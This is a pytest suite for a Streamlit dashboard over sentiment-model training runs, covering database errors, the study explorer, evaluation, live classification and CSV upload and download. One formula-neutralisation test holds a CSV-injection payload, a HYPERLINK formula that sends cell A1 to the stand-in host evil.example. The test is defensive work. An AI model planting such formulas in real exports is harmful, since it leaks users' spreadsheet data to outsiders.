"""Every page under AppTest on missing, empty, locked, small and 1,000-trial databases."""
from __future__ import annotations

import csv
import io
import json
import sqlite3
from collections.abc import Callable
from pathlib import Path

import pytest
from streamlit.dataframe_util import convert_arrow_bytes_to_pandas_df
from streamlit.testing.v1 import AppTest

from tests.dashboard import builders
from tests.dashboard.conftest import PAGES

Open = Callable[[str, str], AppTest]
MAX_CHART_ROWS = 5000


def texts(elements) -> str:
    return "\n".join(str(e.value) for e in elements)


def charts(at: AppTest) -> list[dict]:
    """Each chart's spec, its data sets (shipped beside it as Arrow) put back as `rows`."""
    found = []
    for chart in at.get("vega_lite_chart"):
        spec = json.loads(chart.proto.spec)
        frames = [convert_arrow_bytes_to_pandas_df(d.data.data) for d in chart.proto.datasets]
        if chart.proto.data.data:
            frames.append(convert_arrow_bytes_to_pandas_df(chart.proto.data.data))
        spec["rows"] = [row for frame in frames for row in frame.to_dict("records")]
        found.append(spec)
    return found


def chart(at: AppTest, title: str) -> dict:
    return next(c for c in charts(at) if title in json.dumps(c.get("title", "")))


def table_with(at: AppTest, column: str):
    """The first st.dataframe holding `column` (only selectable tables keep their key)."""
    return next(d.value for d in at.dataframe if column in d.value.columns)


def no_exception(at: AppTest) -> None:
    assert not at.exception, at.exception[0].value


@pytest.mark.parametrize("page", PAGES)
def test_pages_on_a_missing_database_say_how_to_make_one(open_page: Open, missing_db: str,
                                                          page: str) -> None:
    at = open_page(missing_db, page)
    no_exception(at)
    assert "cannot read its database" in texts(at.error)
    assert "python -m trainer run" in texts(at.error)
    assert not Path(missing_db.removeprefix("sqlite:///")).exists()  # the viewer creates nothing


@pytest.mark.parametrize(("page", "guidance"), [
    ("overview", "holds no evaluated model yet"),
    ("study", "holds no Optuna study yet"),
    ("evaluation", "holds no evaluated model yet"),
    ("live", "holds no saved model yet"),
])
def test_pages_on_an_empty_database_guide_the_user(open_page: Open, empty_db: str, page: str,
                                                   guidance: str) -> None:
    at = open_page(empty_db, page)
    no_exception(at)
    assert guidance in texts(at.info)


def test_unreadable_database_file_is_an_error_box(open_page: Open, tmp_path: Path,
                                                  caplog: pytest.LogCaptureFixture) -> None:
    (tmp_path / "junk.db").write_text("this is not a database\n" * 100)
    at = open_page(f"sqlite:///{tmp_path / 'junk.db'}", "overview")
    no_exception(at)
    assert "cannot read its database" in texts(at.error)
    assert "file is not a database" in caplog.text  # the reason: for the operator only


def test_locked_database_is_an_error_box(open_page: Open, tmp_path: Path,
                                         monkeypatch: pytest.MonkeyPatch,
                                         caplog: pytest.LogCaptureFixture) -> None:
    import storage.engine

    monkeypatch.setattr(storage.engine, "SQLITE_BUSY_S", 1)
    path = tmp_path / "locked.db"
    holder = sqlite3.connect(path, isolation_level=None)
    holder.execute("CREATE TABLE t (x)")
    holder.execute("BEGIN EXCLUSIVE")
    try:
        at = open_page(f"sqlite:///{path}", "overview")
    finally:
        holder.close()
    no_exception(at)
    assert "cannot read its database" in texts(at.error)
    assert "locked" in caplog.text  # the reason: for the operator only


def test_overview_shows_stages_warning_tests_and_sentence(open_page: Open,
                                                          small_db: str) -> None:
    at = open_page(small_db, "overview")
    no_exception(at)
    assert [m.label for m in at.metric] == ["TF-IDF baseline", "pretrained model",
                                            "fine-tuned model"]
    table = table_with(at, "TF-IDF baseline: tfidf-logreg (run 1)")
    assert list(table.columns) == ["TF-IDF baseline: tfidf-logreg (run 1)",
                                   "pretrained model: tiny-bert (run 2)",
                                   f"fine-tuned model: tiny-bert, study {builders.STUDY} (run 3)"]
    assert "accuracy 95% CI" in table.index
    assert "untrained sentiment head" in texts(at.warning)
    sentence = texts(at.markdown)
    assert "Fine\\-tuning raised accuracy" in sentence or "Fine-tuning raised" in sentence
    tests = table_with(at, "comparison")
    assert len(tests) == 3 and tests["p"].iloc[0] == "p < 0.001"
    assert "sentence" not in tests.columns  # each sentence is text under the table, whole
    assert sentence.count("\n- ") == 2 and "on 300 test reviews" in sentence


STUDY_TABS = {"History": ("optimisation history", "empirical distribution", "intermediate values"),
              "Importance": ("hyperparameter importance",),
              "Hyperparameters": ("parallel coordinates", "contour", "slice plots"),
              "Time": ("timeline of trials", "time per trial")}


def open_tab(at: AppTest, label: str) -> AppTest:
    """Open one of the study explorer's lazy tabs (only the open tab runs)."""
    at.session_state["study_tab"] = label
    return at.run()


def test_study_explorer_renders_every_tab(open_page: Open, small_db: str) -> None:
    at = open_page(small_db, "study")
    no_exception(at)
    assert at.selectbox(key="study_name").value == builders.STUDY
    assert [m.label for m in at.metric][:4] == ["complete trials", "pruned trials",
                                                "failed trials", "running trials"]
    assert [t.label for t in at.tabs] == ["Trials", *STUDY_TABS]
    assert "refreshes every" in texts(at.caption)  # a trial is RUNNING
    assert at.download_button(key="study_csv").label.startswith("Download")
    assert len(at.dataframe(key="study_table").value) == 12
    for label, titles in STUDY_TABS.items():
        open_tab(at, label)
        no_exception(at)
        shown = [json.dumps(c.get("title", "")) for c in charts(at)]
        assert all(any(title in s for s in shown) for title in titles), (label, shown)
    open_tab(at, "Importance")
    assert "importance is not trustworthy below 20" in texts(at.warning)


def test_study_explorer_filters_and_shows_the_chosen_trial(open_page: Open,
                                                           small_db: str) -> None:
    at = open_page(small_db, "study")
    at.multiselect(key="study_states").set_value(["PRUNED"]).run()
    no_exception(at)
    shown = at.dataframe(key="study_table").value
    assert set(shown["state"]) == {"PRUNED"}
    pruned = int(shown["number"].iloc[0])
    at.selectbox(key="study_trial").set_value(pruned).run()
    no_exception(at)
    assert "state PRUNED" in texts(at.caption)
    assert len(table_with(at, "support")) == 2
    titles = [c.get("title") for c in charts(at)]
    assert "confusion matrix" in titles and "ROC curve" in titles


def test_selecting_a_trial_row_shows_that_trials_diagnostics(open_page: Open,
                                                             small_db: str) -> None:
    at = open_page(small_db, "study")
    at.multiselect(key="study_states").set_value(["COMPLETE"]).run()
    third = int(at.dataframe(key="study_table").value["number"].iloc[2])
    at.session_state["study_table"] = {"selection": {"rows": [2], "columns": [], "cells": []}}
    at.run()
    no_exception(at)
    assert f"Trial {third}, the selected row" in texts(at.caption)
    assert "state COMPLETE" in texts(at.caption)
    assert "confusion matrix" in [c.get("title") for c in charts(at)]


@pytest.mark.parametrize("evaluator", ["fANOVA", "mean decrease impurity", "PED-ANOVA"])
def test_importance_for_any_evaluator_and_a_per_class_target(open_page: Open, small_db: str,
                                                             evaluator: str) -> None:
    at = open_tab(open_page(small_db, "study"), "Importance")
    at.selectbox(key="study_evaluator").set_value(evaluator)
    at.selectbox(key="study_target").set_value("f1_negative").run()
    no_exception(at)
    found = chart(at, "hyperparameter importance")
    assert found["encoding"]["x"]["title"] == "importance for f1_negative"


def test_evaluation_threshold_slider_recomputes_the_confusion(open_page: Open,
                                                              small_db: str) -> None:
    at = open_page(small_db, "evaluation")
    no_exception(at)
    assert [m.label for m in at.metric] == ["accuracy", "ROC AUC", "PR AUC", "log loss", "ECE",
                                            "Brier", "accuracy at threshold 0.50"]

    def predicted_positive() -> int:
        rows = next(c for c in charts(at) if c.get("title") == "confusion matrix")["rows"]
        return sum(r["count"] for r in rows if r["predicted"] == "positive")

    at.slider(key="eval_threshold").set_value(0.1).run()
    low = predicted_positive()
    at.slider(key="eval_threshold").set_value(0.9).run()
    no_exception(at)
    assert predicted_positive() < low
    errors = table_with(at, "confidence")
    assert (errors["predicted"] == "negative").all()  # at 0.9 every mistake is a missed positive
    assert at.text[0].value == errors["text"].iloc[0]


def test_evaluation_compares_two_roc_curves_and_opens_a_trial(open_page: Open,
                                                              small_db: str) -> None:
    at = open_page(small_db, "evaluation")
    at.selectbox(key="eval_compare").set_value(1).run()
    roc = next(c for c in charts(at) if c.get("title") == "ROC curve")
    models = {r["model"] for r in roc["rows"] if "model" in r}
    assert len(models) == 2
    at.radio(key="eval_source").set_value("a tuning trial").run()
    no_exception(at)
    assert "trial" in at.selectbox(key="eval_trial").label.lower()


def test_evaluation_error_browser_filters_by_length(open_page: Open, small_db: str) -> None:
    at = open_page(small_db, "evaluation")
    low, _high = at.slider(key="eval_length").value
    at.slider(key="eval_length").set_value((low, low + 60)).run()
    no_exception(at)
    assert (table_with(at, "confidence")["length"] <= low + 60).all()


def test_live_page_classifies_and_highlights_with_the_real_baseline(open_page: Open,
                                                                    small_db: str) -> None:
    at = open_page(small_db, "live")
    no_exception(at)
    assert "baseline" in at.selectbox(key="live_model").options[0]
    assert "cannot be loaded" in at.expander[0].label  # the deleted fine-tuned model
    at.text_area(key="live_text").set_value("A wonderful, moving film; the ending was dull.")
    at.run()
    no_exception(at)
    assert next(m.label for m in at.metric) == "label"
    assert at.metric[0].value in ("positive", "negative")
    assert "-background[" in texts(at.markdown)
    at.toggle(key="live_all").set_value(True).run()
    assert len(table_with(at, "positive")) >= 1


@pytest.mark.parametrize(("text", "message"), [
    ("   \n\t ", "the review is empty"),
    ("x" * 20_001, "shorten it to at most 20,000"),
])
def test_live_page_explains_bad_reviews(open_page: Open, small_db: str, text: str,
                                        message: str) -> None:
    at = open_page(small_db, "live")
    at.text_area(key="live_text").set_value(text).run()
    no_exception(at)
    assert message in texts(at.error).replace("\\", "")


def test_live_page_classifies_an_uploaded_csv(open_page: Open, small_db: str) -> None:
    at = open_page(small_db, "live")
    data = "\ufefftext,id\r\nA wonderful film,1\r\n   ,2\r\nAwful and boring,3\r\n"
    at.file_uploader(key="live_csv").set_value(("r.csv", data.encode(), "text/csv")).run()
    no_exception(at)
    at.button(key="live_batch_run").click().run()
    no_exception(at)
    result = table_with(at, "error")
    assert result["label"].tolist()[1] == "" and "empty" in result["error"].iloc[1]
    assert set(result["label"].iloc[[0, 2]]) <= {"positive", "negative"}
    assert at.progress[0].value == 100
    assert at.download_button(key="live_batch_csv").label == "Download the results as CSV"


@pytest.fixture
def downloaded(monkeypatch: pytest.MonkeyPatch) -> Callable[[AppTest, str], bytes]:
    """downloaded(at, key) -> the bytes the download button with that key serves.

    AppTest keeps a download's bytes in a media store that it drops after each run; keep them.
    """
    from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage
    from streamlit.testing.v1 import app_test

    stores: list[MemoryMediaFileStorage] = []

    class KeptMediaStorage(MemoryMediaFileStorage):
        def __init__(self, media_endpoint: str) -> None:
            super().__init__(media_endpoint)
            stores.append(self)

    monkeypatch.setattr(app_test, "MemoryMediaFileStorage", KeptMediaStorage)

    def read(at: AppTest, key: str) -> bytes:
        name = at.download_button(key=key).proto.url.rsplit("/", 1)[-1]
        return stores[-1].get_file(name).content  # the latest run's store serves the button

    return read


def test_live_page_download_neutralises_formulas_but_shows_cells_as_uploaded(
    open_page: Open, small_db: str, downloaded: Callable[[AppTest, str], bytes]
) -> None:
    link = '=HYPERLINK("http://evil.example/?"&A1,"Click for the full review")'
    quoted = link.replace('"', '""')
    data = f'text,id\r\n"{quoted}",1\r\n"@SUM(1+1)",2\r\nA fine film,3\r\n'
    at = open_page(small_db, "live")
    at.file_uploader(key="live_csv").set_value(("r.csv", data.encode(), "text/csv")).run()
    at.button(key="live_batch_run").click().run()
    no_exception(at)
    shown = table_with(at, "error")
    assert shown["text"].tolist() == [link, "@SUM(1+1)", "A fine film"]  # the screen: as uploaded
    rows = list(csv.DictReader(io.StringIO(downloaded(at, "live_batch_csv").decode("utf-8"),
                                           newline="")))
    assert [r["text"] for r in rows] == ["'" + link, "'@SUM(1+1)", "A fine film"]
    assert [float(r["score"]) for r in rows] == pytest.approx(shown["score"].tolist())
    assert [r["label"] for r in rows] == shown["label"].tolist()


def test_live_page_reads_a_headerless_upload_whole_and_says_so(open_page: Open,
                                                                small_db: str) -> None:
    at = open_page(small_db, "live")
    data = b"A wonderful film\r\nAwful and boring\r\n"
    at.file_uploader(key="live_csv").set_value(("plain.csv", data, "text/csv")).run()
    no_exception(at)
    captions = texts(at.caption).replace("\\", "")
    assert "2 reviews in plain.csv" in captions
    assert ("plain.csv has one column and no header row, so its first row was read as a review "
            "too; to give the file a header, name the column text") in captions
    at.button(key="live_batch_run").click().run()
    assert table_with(at, "error")["text"].tolist() == ["A wonderful film", "Awful and boring"]


@pytest.mark.parametrize(("data", "message"), [
    (b"text\n\xff\xfe\n", "bad.csv is not valid UTF-8 (line 2)"),
    (b"title,stars\nx,1\n", "expected a column named 'text' or 'review'"),
    (b"text\n" + b"x\n" * 5001, "bad.csv has 5,001 reviews; give at most 5,000"),
])
def test_live_page_rejects_unreadable_csv_with_the_shared_readers_advice(
    open_page: Open, small_db: str, data: bytes, message: str
) -> None:
    from dashboard.live_views import MAX_UPLOAD_ROWS
    from trainer.errors import DataError
    from trainer.predict import read_reviews_csv

    at = open_page(small_db, "live")
    at.file_uploader(key="live_csv").set_value(("bad.csv", data, "text/csv")).run()
    no_exception(at)
    with pytest.raises(DataError) as caught:  # what `predict --file` reads with, too
        read_reviews_csv(data, "bad.csv", max_rows=MAX_UPLOAD_ROWS)
    assert message in str(caught.value)
    assert texts(at.error).replace("\\", "") == str(caught.value)


@pytest.mark.parametrize("page", PAGES)
def test_pages_with_a_thousand_trials_stay_aggregated(open_page: Open, big_db: str,
                                                      page: str) -> None:
    at = open_page(big_db, page)
    no_exception(at)
    assert not at.error
    shipped = [len(c["rows"]) for c in charts(at)]
    assert all(rows <= MAX_CHART_ROWS for rows in shipped), shipped
    if page == "study":
        assert len(at.dataframe(key="study_table").value) == 1000
        for label in STUDY_TABS:
            open_tab(at, label)
            no_exception(at)
            shipped = [len(c["rows"]) for c in charts(at)]
            assert shipped and all(rows <= MAX_CHART_ROWS for rows in shipped), shipped
        assert "importance is not trustworthy" not in texts(at.warning)
        open_tab(at, "History")
        lines = chart(at, "intermediate values")["rows"]
        assert {r["state"] for r in lines} >= {"COMPLETE", "PRUNED"}
    if page == "evaluation":
        assert len(table_with(at, "confidence")) <= 200


def test_pages_work_on_postgresql(open_page: Open, pg_schema_url: str, tmp_path: Path) -> None:
    builders.populated(pg_schema_url, tmp_path / "artifacts", n_trials=4)
    for page in ("overview", "study"):
        at = open_page(pg_schema_url, page)
        no_exception(at)
        assert not at.error and not at.info


def test_sidebar_switches_among_allowed_databases_and_keeps_it_across_pages(
    open_page: Open, empty_db: str, small_db: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SENTIMENT_DASHBOARD_URLS", f"empty={empty_db} small={small_db}")
    at = open_page(empty_db, "overview")
    assert "holds no evaluated model yet" in texts(at.info)
    assert at.sidebar.selectbox(key="database_choice").options == ["empty", "small"]
    at.sidebar.selectbox(key="database_choice").set_value("small").run()
    no_exception(at)
    assert len(at.metric) == 3
    at.switch_page("app_pages/evaluation.py").run()
    assert at.sidebar.selectbox(key="database_choice").value == "small"
    assert not at.info and len(at.metric) == 7  # six headline figures, one at the threshold


def test_run_without_stored_predictions_says_what_is_missing(open_page: Open,
                                                             tmp_path: Path) -> None:
    from storage.store import open_store

    url = f"sqlite:///{tmp_path / 'bare.db'}"
    reviews = builders.synthetic_reviews(40)
    with open_store(url) as store:
        run_id = builders.save_stage(store, "baseline", reviews, 1.0, seed=0, model="m")
        run = store.get_run(run_id)
        store.delete_run(run_id)
        store.save_run(run.spec, run.evaluation, None)
    at = open_page(url, "evaluation")
    no_exception(at)
    assert "has no stored predictions" in texts(at.info)
    assert len(at.metric) == 6  # the stored metrics and curves are still shown


class FakePredictor:
    """Stands in for a model: positive when the review says "good"; its explainer crashes."""

    name = "fake"

    def predict_proba(self, texts):
        import numpy as np

        return np.array([0.9 if "good" in t else 0.2 for t in texts])

    def explain(self, text, top_k=10):
        raise RuntimeError("integrated gradients ran out of memory")


def test_live_page_keeps_the_label_when_the_explainer_fails(open_page: Open, small_db: str,
                                                            monkeypatch: pytest.MonkeyPatch
                                                            ) -> None:
    import trainer.predict

    monkeypatch.setattr(trainer.predict, "load_predictor", lambda *a, **k: FakePredictor())
    at = open_page(small_db, "live")
    at.text_area(key="live_text").set_value("a good film").run()
    no_exception(at)
    assert at.metric[0].value == "positive" and at.metric[1].value == "0.900"
    assert "Could not explain this prediction" in texts(at.warning)
